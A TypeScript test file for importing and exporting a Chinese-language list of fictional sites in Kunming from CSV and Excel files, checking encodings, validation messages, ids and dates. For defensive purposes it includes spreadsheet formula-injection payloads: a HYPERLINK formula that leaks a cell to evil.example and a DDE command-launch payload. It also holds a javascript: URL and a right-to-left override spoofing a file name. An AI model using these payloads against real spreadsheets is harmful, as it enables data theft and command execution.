import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import iconv from 'iconv-lite';
import writeXlsxFile from 'write-excel-file/node';
import { afterAll, describe, expect, it } from 'vitest';
import { BASE_HEADERS, basesCsv, recordToRow, type BaseRecord } from '../../src/lib/bases/columns';
import { describeImportProblem, importBaseRows, MAX_CELL_LENGTH, removesMostOfList, stableBaseId } from '../../src/lib/bases/import';
import { readAsFormula } from '../../src/lib/spreadsheets/cells';
import { readBaseRecords, writeBaseRecords } from '../../scripts/lib/bases-files';
import { readSpreadsheet } from '../../scripts/lib/spreadsheet-files';
import { generateBases } from '../../scripts/lib/synthetic-bases';
import { csvInEveryEncoding } from '../helpers/excel-encodings';

const shipped = readBaseRecords('content/bases');
const TODAY = '2026-11-28';
const tmp = mkdtempSync(join(tmpdir(), 'bases-import-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const headers = [...BASE_HEADERS];
const rowsOf = (records: readonly BaseRecord[]) => records.map(recordToRow);
const column = (name: string) => headers.indexOf(name as never);
/** A copy of the shipped rows with one cell changed. */
function withCell(rowIndex: number, name: string, value: string): string[][] {
  const rows = rowsOf(shipped);
  (rows[rowIndex] as string[])[column(name)] = value;
  return rows;
}

describe('import round trip', () => {
  it('the shipped list has at least 24 entries, all fictional, across every kind and 街道', () => {
    expect(shipped.length).toBeGreaterThanOrEqual(24);
    expect(shipped.every((r) => r.sample && r.name.startsWith('示例'))).toBe(true);
    expect(new Set(shipped.map((r) => r.kind)).size).toBe(8);
    expect(new Set(shipped.map((r) => r.subdistrict)).size).toBe(10);
  });

  it('export → import gives the same records, and a second import changes nothing', () => {
    const first = importBaseRows(headers, rowsOf(shipped), shipped, TODAY);
    expect(first.problems).toEqual([]);
    expect(first.records).toEqual(shipped);
    expect(first.summary).toMatchObject({ added: [], changed: [], removed: [] });
    const second = importBaseRows(headers, rowsOf(first.records), first.records, '2030-01-01');
    expect(second.records).toEqual(first.records);
  });

  it('returns the bases in the canonical order, by 编号, whatever the order of the rows', () => {
    expect(shipped.map((r) => r.id)).toEqual(shipped.map((r) => r.id).sort());
    const reversed = importBaseRows(headers, rowsOf(shipped).reverse(), shipped, TODAY);
    expect(reversed.records).toEqual(shipped);
    expect(reversed.summary.unchanged).toHaveLength(shipped.length);
    const exported = parseCsv(basesCsv([...shipped].reverse()).slice(1)) as string[][];
    expect(exported.slice(1).map((row) => row[column('编号')])).toEqual(shipped.map((r) => r.id));
  });

  it('reads a UTF-8 CSV with BOM, one without, and a GB18030 CSV the same way', async () => {
    const csv = stringify([headers, ...rowsOf(shipped)]);
    const files = csvInEveryEncoding(csv);
    for (const [name, [bytes, encoding]] of Object.entries(files)) {
      writeFileSync(join(tmp, name), bytes);
      const sheet = await readSpreadsheet(join(tmp, name));
      expect(sheet.format).toBe(`CSV, ${encoding}`);
      expect(importBaseRows(sheet.headers, sheet.rows, [], TODAY).records).toEqual(shipped);
    }
  });

  it('refuses UTF-16 without a byte-order mark, naming the file', async () => {
    writeFileSync(join(tmp, 'nobom.csv'), iconv.encode(stringify([headers, ...rowsOf(shipped)]), 'utf-16le'));
    await expect(readSpreadsheet(join(tmp, 'nobom.csv'))).rejects.toThrow(
      /nobom\.csv: 不是文本 CSV 文件（含有 NUL 字节，可能是没有 BOM 的 UTF-16）/,
    );
  });

  it('refuses a UTF-8 file with one row pasted from a GB18030 sheet, naming that row', async () => {
    const rows = rowsOf(shipped);
    // Row 3 holds a description with a line break: rows are counted as Excel counts them, not lines.
    (rows[1] as string[])[column('简介')] = '第一段。\n第二段：用球幕影片和望远镜带大家认识星空。';
    const lines = stringify([headers, ...rows]).split(/(?<=\n)/);
    const rowFour = lines.findIndex((line) => line.startsWith(shipped[2]?.id as string));
    const bytes = Buffer.concat(lines.map((line, i) => (i === rowFour ? iconv.encode(line, 'gb18030') : Buffer.from(line, 'utf8'))));
    writeFileSync(join(tmp, 'mixed.csv'), bytes);
    await expect(readSpreadsheet(join(tmp, 'mixed.csv'))).rejects.toThrow(
      /^[^\n]*mixed\.csv: 第 4 行不是 UTF-8 编码，而第 1 行是：文件混用了两种编码[^\n]*$/,
    );
  });

  it('reads an .xlsx with typed cells (numbers, dates) as Excel saves them', async () => {
    const typed = rowsOf(shipped).map((row) =>
      row.map((cell, i) => {
        const header = headers[i] as string;
        if (cell && ['纬度', '经度', '认定年份', '提前预约天数', '团体人数下限', '团体人数上限'].includes(header))
          return { type: Number, value: Number(cell) };
        if (cell && header === '更新日期') return { type: Date, value: new Date(`${cell}T00:00:00Z`), format: 'yyyy-mm-dd' };
        return cell ? { type: String, value: cell } : null;
      }),
    );
    const file = join(tmp, 'list.xlsx');
    await writeXlsxFile([headers.map((h) => ({ type: String, value: h })), ...typed] as never).toFile(file);
    const sheet = await readSpreadsheet(file);
    expect(importBaseRows(sheet.headers, sheet.rows, [], TODAY).records).toEqual(shipped);
  });

  it('refuses files it cannot read, naming the file', async () => {
    writeFileSync(join(tmp, 'fake.xlsx'), 'not a zip');
    await expect(readSpreadsheet(join(tmp, 'fake.xlsx'))).rejects.toThrow(/fake\.xlsx: 不是可读取的 \.xlsx 文件/);
    await expect(readSpreadsheet(join(tmp, 'list.xls'))).rejects.toThrow(/只能导入 \.csv 或 \.xlsx/);
  });
});

describe('/data/bases.csv is safe to open in Excel', () => {
  // Every text column a person can fill, set to something Excel would run.
  const attacks = {
    name: '=HYPERLINK("http://evil.example/?"&A1,"示例·点这里")',
    host: "=cmd|' /C calc'!A0",
    address: '+五华区（示例地址）',
    hoursNote: '-2+3 节假日闭馆',
    description: '@SUM(1+1) 这是一条演示用的示例数据。',
    accessibility: { ...(shipped[0] as BaseRecord).accessibility, notes: "'=已经带引号的说明" },
  };
  const hostile: BaseRecord[] = [{ ...(shipped[0] as BaseRecord), ...attacks }, ...shipped.slice(1)];

  it('writes no cell that starts a formula, and reads back every record unchanged', () => {
    const csv = basesCsv(hostile);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const [header = [], ...rows] = parseCsv(csv.slice(1)) as string[][];
    expect(header).toEqual(headers);
    expect(rows.flat().filter(readAsFormula)).toEqual([]);
    expect(rows[0]?.[column('名称')]).toBe(`'${attacks.name}`);
    expect(rows[0]?.[column('无障碍说明')]).toBe(`''=已经带引号的说明`);
    // A negative number or a phone number is not a formula and is left alone.
    expect(
      rows
        .flat()
        .filter((cell) => cell.startsWith("'"))
        .sort(),
    ).toEqual(
      [attacks.name, attacks.host, attacks.address, attacks.hoursNote, attacks.description, attacks.accessibility.notes]
        .map((c) => `'${c}`)
        .sort(),
    );
    const result = importBaseRows(header, rows, hostile, TODAY);
    expect(result.problems).toEqual([]);
    expect(result.records).toEqual(hostile);
    expect(result.summary.changed).toEqual([]);
  });
});

describe('bad rows', () => {
  it('reports every problem at once with row, column and value, and returns no records', () => {
    const rows = withCell(0, '开放时间', '周八 09:00-17:00');
    (rows[2] as string[])[column('类型')] = '游乐场';
    (rows[3] as string[])[column('街道')] = '翠湖';
    (rows[4] as string[])[column('认定年份')] = '';
    (rows[5] as string[])[column('开放时间')] = '周一 09:00-25:00';
    (rows[6] as string[])[column('纬度')] = '102.7';
    (rows[7] as string[])[column('是否免费')] = '也许';
    (rows[8] as string[])[column('名称')] = '';
    (rows[9] as string[])[column('编号')] = (rows[10] as string[])[column('编号')] as string;
    (rows[11] as string[])[column('认定年份')] = '二〇二二';
    (rows[11] as string[])[column('经度')] = '';
    const { records, problems } = importBaseRows(headers, rows, shipped, TODAY);
    expect(records).toEqual([]);
    const lines = problems.map((p) => describeImportProblem('名录.xlsx', p));
    expect(lines).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^名录\.xlsx: 第 2 行，「开放时间」列：看不懂星期“周八”.*（值：“周八 09:00-17:00”）$/),
        expect.stringMatching(/^名录\.xlsx: 第 4 行，「类型」列：类型不在可选范围内.*（值：“游乐场”）$/),
        expect.stringMatching(/^名录\.xlsx: 第 5 行，「街道」列：街道不在可选范围内.*（值：“翠湖”）$/),
        expect.stringMatching(/^名录\.xlsx: 第 6 行，「认定年份」列：写了认定级别就要写认定年份（值：空）$/),
        expect.stringMatching(/^名录\.xlsx: 第 7 行，「开放时间」列：不是有效时间.*（值：“周一 09:00-25:00”）$/),
        expect.stringMatching(/^名录\.xlsx: 第 8 行，「纬度」列：坐标不在昆明市范围内.*（值：“102\.7”）$/),
        expect.stringMatching(/^名录\.xlsx: 第 9 行，「是否免费」列：应填“是”或“否”（值：“也许”）$/),
        expect.stringMatching(/^名录\.xlsx: 第 10 行，「名称」列：必填，不能为空（值：空）$/),
        expect.stringMatching(/^名录\.xlsx: 第 12 行，「编号」列：编号与第 11 行重复/),
        expect.stringMatching(/^名录\.xlsx: 第 13 行，「认定年份」列：应为整数（值：“二〇二二”）$/),
        expect.stringMatching(/^名录\.xlsx: 第 13 行，「经度」列：纬度和经度要一起填写（值：空）$/),
      ]),
    );
    expect(problems).toHaveLength(11);
  });

  it('refuses a 预约网址 that is not https, http, tel or mailto, naming row and column', () => {
    const rows = withCell(0, '是否需预约', '是');
    (rows[0] as string[])[column('预约网址')] = 'javascript:alert(1)';
    const { records, problems } = importBaseRows(headers, rows, shipped, TODAY);
    expect(records).toEqual([]);
    expect(problems.map((p) => describeImportProblem('名录.xlsx', p))).toEqual([
      expect.stringMatching(/^名录\.xlsx: 第 2 行，「预约网址」列：网址不能用 javascript:，只能用 https:、http:、tel:、mailto: 开头/),
    ]);
  });

  it('checks the header row before any data: unknown, duplicate and missing columns', () => {
    const { problems } = importBaseRows(['名称', '名称', '类别', '街道'], [['示例', '示例', '', '华山']], [], TODAY);
    const text = problems.map((p) => describeImportProblem('x.csv', p)).join('\n');
    expect(text).toMatch(/第 1 行，「名称」列：列名重复/);
    expect(text).toMatch(/第 1 行，「类别」列：未知的列名（第 3 列/);
    expect(text).toMatch(/第 1 行，「类型」列：缺少必填列/);
  });

  it('refuses cells under a blank header or past the last header rather than drop them', () => {
    const rows = rowsOf(shipped).map((row) => [...row, '']);
    (rows[1] as string[])[headers.length] = '漏了列名的备注';
    (rows[2] as string[]).push('多出来的一格');
    const { records, problems } = importBaseRows([...headers, ''], rows, shipped, TODAY);
    expect(records).toEqual([]);
    expect(problems.map((p) => describeImportProblem('名录.csv', p))).toEqual([
      `名录.csv: 第 3 行，「第 ${headers.length + 1} 列（没有列名）」列：这一列没有列名，内容不会被导入；请补上列名或删掉这些内容（值：“漏了列名的备注”）`,
      `名录.csv: 第 4 行，「第 ${headers.length + 2} 列（没有列名）」列：这一列没有列名，内容不会被导入；请补上列名或删掉这些内容（值：“多出来的一格”）`,
    ]);
  });

  it(`refuses a cell longer than ${MAX_CELL_LENGTH} characters, showing only its start`, () => {
    const { records, problems } = importBaseRows(headers, withCell(0, '简介', '很长'.repeat(MAX_CELL_LENGTH)), shipped, TODAY);
    expect(records).toEqual([]);
    expect(problems.map((p) => describeImportProblem('名录.csv', p))).toEqual([
      `名录.csv: 第 2 行，「简介」列：内容有 ${MAX_CELL_LENGTH * 2} 个字符，超过上限 ${MAX_CELL_LENGTH}（值：“${'很长'.repeat(40)}…”）`,
    ]);
    expect(importBaseRows(headers, withCell(0, '简介', '长'.repeat(MAX_CELL_LENGTH)), shipped, TODAY).problems).toEqual([]);
  });

  it('refuses right-to-left overrides and zero-width characters in names, naming the character', () => {
    const rows = withCell(0, '名称', '示例·\u202Egpj.馆');
    (rows[1] as string[])[column('依托单位')] = '示例\u200B单位';
    const lines = importBaseRows(headers, rows, shipped, TODAY).problems.map((p) => describeImportProblem('名录.csv', p));
    expect(lines).toEqual([
      expect.stringMatching(/^名录\.csv: 第 2 行，「名称」列：含有看不见的控制字符 U\+202E/),
      expect.stringMatching(/^名录\.csv: 第 3 行，「依托单位」列：含有看不见的控制字符 U\+200B/),
    ]);
  });

  it('reads years and counts only as decimal digits: 0x7E6 and 2.022e3 are not 2022', () => {
    const rows = withCell(0, '认定年份', '0x7E6');
    (rows[1] as string[])[column('认定年份')] = '2.022e3';
    (rows[2] as string[])[column('纬度')] = '2.5e1';
    const problems = importBaseRows(headers, rows, shipped, TODAY).problems.map((p) => [p.row, p.column, p.value, p.message]);
    expect(problems).toEqual([
      [2, '认定年份', '0x7E6', '应为整数'],
      [3, '认定年份', '2.022e3', '应为整数'],
      [4, '纬度', '2.5e1', '应为数字'],
    ]);
  });

  it('refuses a sheet with no data rows rather than emptying the list', () => {
    const { problems } = importBaseRows(headers, [headers.map(() => '')], shipped, TODAY);
    expect(problems.map((p) => p.message)).toEqual([expect.stringMatching(/没有任何数据行/)]);
  });
});

describe('stable ids and dates', () => {
  const withoutIds = () => rowsOf(shipped).map((row) => row.map((cell, i) => (i === column('编号') ? '' : cell)));

  it('a row without 编号 keeps the id of the base with the same name in the same 街道', () => {
    expect(importBaseRows(headers, withoutIds(), shipped, TODAY).records.map((r) => r.id)).toEqual(shipped.map((r) => r.id));
  });

  it('new rows without 编号 get an id from 街道 and name, the same on every run and in any row order', () => {
    const first = importBaseRows(headers, withoutIds(), [], TODAY).records;
    const reversed = importBaseRows(headers, withoutIds().reverse(), [], TODAY).records;
    // Returned in the canonical order: by id.
    expect(first.map((r) => r.id)).toEqual(shipped.map((r) => stableBaseId(r.subdistrict, r.name)).sort());
    expect(new Map(reversed.map((r) => [r.name, r.id]))).toEqual(new Map(first.map((r) => [r.name, r.id])));
    expect(new Set(first.map((r) => r.id)).size).toBe(shipped.length);
  });

  it('a row without 更新日期 keeps its date when nothing changed and gets today when something did', () => {
    const rows = rowsOf(shipped).map((row) => row.map((cell, i) => (i === column('更新日期') ? '' : cell)));
    (rows[0] as string[])[column('简介')] = '简介改过了：用球幕影片和望远镜带大家认识星空。';
    const { records, summary } = importBaseRows(headers, rows, shipped, TODAY);
    expect(records[0]?.updated).toBe(TODAY);
    expect(records.slice(1).map((r) => r.updated)).toEqual(shipped.slice(1).map((r) => r.updated));
    expect(summary.changed).toEqual([shipped[0]?.id]);
  });

  it('reads dates as Excel saves an edited CSV (2026/11/30, 2027/1/5) as the content writes them, and still refuses a date that does not exist', () => {
    const index = shipped.findIndex((r) => r.certification);
    const rows = withCell(index, '更新日期', '2026/11/3');
    (rows[index] as string[])[column('认定有效期至')] = '2029/1/5';
    const { records } = importBaseRows(headers, rows, shipped, TODAY);
    const record = records.find((r) => r.id === shipped[index]?.id);
    expect(record?.updated).toBe('2026-11-03');
    expect(record?.certification?.validUntil).toBe('2029-01-05');
    const { problems } = importBaseRows(headers, withCell(index, '更新日期', '2026/2/30'), shipped, TODAY);
    expect(problems.map((p) => describeImportProblem('名录.csv', p))).toEqual([
      expect.stringMatching(/第 \d+ 行，「更新日期」列：不是有效日期.*（值：“2026\/2\/30”）$/),
    ]);
  });

  it('reports the bases a sheet leaves out as removed', () => {
    const { summary } = importBaseRows(headers, rowsOf(shipped.slice(1)), shipped, TODAY);
    expect(summary.removed).toEqual([shipped[0]?.id]);
  });

  it('calls deleting more than half of the list a removal to confirm, and half or less not', () => {
    const half = Math.floor(shipped.length / 2);
    const keeping = (n: number) => importBaseRows(headers, rowsOf(shipped.slice(0, n)), shipped, TODAY).summary;
    expect(removesMostOfList(keeping(shipped.length - half), shipped.length)).toBe(false);
    expect(removesMostOfList(keeping(shipped.length - half - 1), shipped.length)).toBe(true);
    expect(removesMostOfList({ added: ['a'], changed: [], unchanged: [], removed: [] }, 0)).toBe(false);
  });
});

describe('the content file', () => {
  it('is written without YAML anchors even when records share objects, and reads back the same', () => {
    const records = generateBases(50, 7);
    const dir = join(tmp, 'written');
    mkdirSync(dir);
    writeBaseRecords(dir, records);
    const text = readFileSync(join(dir, 'bases.yaml'), 'utf8');
    expect(text).not.toMatch(/[&*][a-z]\d+/);
    expect(readBaseRecords(dir)).toEqual(records);
  });

  it('is read as strictly as the build reads it: a duplicate id stops the import too', () => {
    const dir = join(tmp, 'duplicate');
    mkdirSync(dir);
    writeBaseRecords(dir, [shipped[0] as BaseRecord, { ...(shipped[1] as BaseRecord), id: shipped[0]?.id as string }]);
    expect(() => readBaseRecords(dir)).toThrow(/bases\.yaml \(entry 2, id [a-z-]+\): field id: duplicate id/);
  });
});
